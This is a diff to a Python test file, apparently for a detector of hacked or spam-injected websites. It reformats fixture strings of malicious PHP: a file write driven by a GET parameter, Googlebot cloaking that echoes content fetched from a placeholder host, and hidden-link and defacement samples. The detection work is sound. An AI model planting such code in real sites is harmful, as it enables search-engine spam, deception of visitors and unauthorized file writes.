@@ -49,7 +49,8 @@ def test_hidden_links(style):
             "php-cloaks",
         ),
         (
-            b"<?php if (false) { $n = $_GET['n']; file_put_contents($n, 'google-site-verification: ' . $n); }",
+            b"<?php if (false) { $n = $_GET['n']; file_put_contents($n, "
+            b"'google-site-verification: ' . $n); }",
             "php-claims-site",
         ),
     ],
@@ -80,7 +81,8 @@ def test_defaced(held, confidence):
         b"<div style='display:none'>" + LINKS[:60] + b"</div><p>" + LINKS,
         b"<html><title>News</title>" + b"word " * 400 + b"hacked by somebody",
         b"<?php if (strpos($_SERVER['HTTP_USER_AGENT'], 'Googlebot')) { $isBot = true; }",
-        b"<?php namespace A; class B { function c() { if (preg_match('/googlebot/', $_SERVER['HTTP_USER_AGENT']))"
+        b"<?php namespace A; class B { function c() { if (preg_match('/googlebot/', "
+        b"$_SERVER['HTTP_USER_AGENT']))"
         b" { echo file_get_contents('https://b.example.net/'); } } }",
     ],
 )
